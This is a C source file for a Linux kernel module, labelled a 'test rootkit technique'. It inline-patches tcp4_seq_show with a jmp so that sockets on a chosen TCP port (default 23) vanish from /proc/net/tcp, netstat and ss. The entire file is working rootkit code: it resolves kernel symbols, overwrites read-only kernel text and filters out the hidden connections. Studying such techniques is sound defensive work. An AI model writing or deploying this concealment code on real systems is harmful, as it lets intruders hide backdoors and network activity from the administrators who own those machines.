// SPDX-License-Identifier: GPL-2.0
/*
 * rk_seqshow: hides TCP port `port` (local or remote) from /proc/net/tcp,
 * and so from netstat and ss -t without netlink, by an inline patch: the
 * first five bytes of tcp4_seq_show, its __fentry__ nop, become a `jmp`
 * to this module, which skips the hidden port's sockets and calls the
 * rest of the function (tcp4_seq_show+5) for the others.
 */
#include <linux/seq_file.h>
#include <net/sock.h>
#include "rk_common.h"

static ushort port = 23;
module_param(port, ushort, 0444);
MODULE_PARM_DESC(port, "the TCP port to hide");

static unsigned long hidden_rows;
module_param(hidden_rows, ulong, 0444);
MODULE_PARM_DESC(hidden_rows, "/proc/net/tcp rows dropped so far");

typedef int (*seq_show_t)(struct seq_file *seq, void *v);

static u8 *target;
static u8 saved[5];
static seq_show_t orig;

static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };

static int rk_tcp4_seq_show(struct seq_file *seq, void *v)
{
	int ret;

	rk_enter();
	if (v != SEQ_START_TOKEN) {
		struct sock *sk = v; /* or a timewait/request sock: sock_common either way */

		if (sk->sk_num == port || ntohs(sk->sk_dport) == port) {
			hidden_rows++;
			rk_leave();
			return 0;
		}
	}
	ret = orig(seq, v);
	rk_leave();
	return ret;
}

static int __init rk_seqshow_init(void)
{
	int ret = rk_init_kallsyms();
	u8 jmp[5];
	s32 rel;

	if (ret)
		return ret;
	target = (u8 *)rk_sym("tcp4_seq_show");
	if (!target)
		return -ENOENT;
	memcpy(saved, target, 5);
	if (memcmp(saved, nop5, 5)) {
		pr_err("rk_seqshow: tcp4_seq_show does not start with the fentry nop: %5ph\n", saved);
		return -EBUSY;
	}
	orig = (seq_show_t)(target + 5);
	rel = (s32)((long)rk_tcp4_seq_show - (long)(target + 5));
	jmp[0] = 0xe9;
	memcpy(jmp + 1, &rel, 4);
	rk_write_ro(target, jmp, 5);
	pr_info("rk_seqshow: tcp4_seq_show (%px) jumps to %px, hiding port %u\n", target, rk_tcp4_seq_show, port);
	return 0;
}

static void __exit rk_seqshow_exit(void)
{
	rk_write_ro(target, saved, 5);
	rk_drain();
}

module_init(rk_seqshow_init);
module_exit(rk_seqshow_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test rootkit technique: an inline patch of tcp4_seq_show hiding a port");
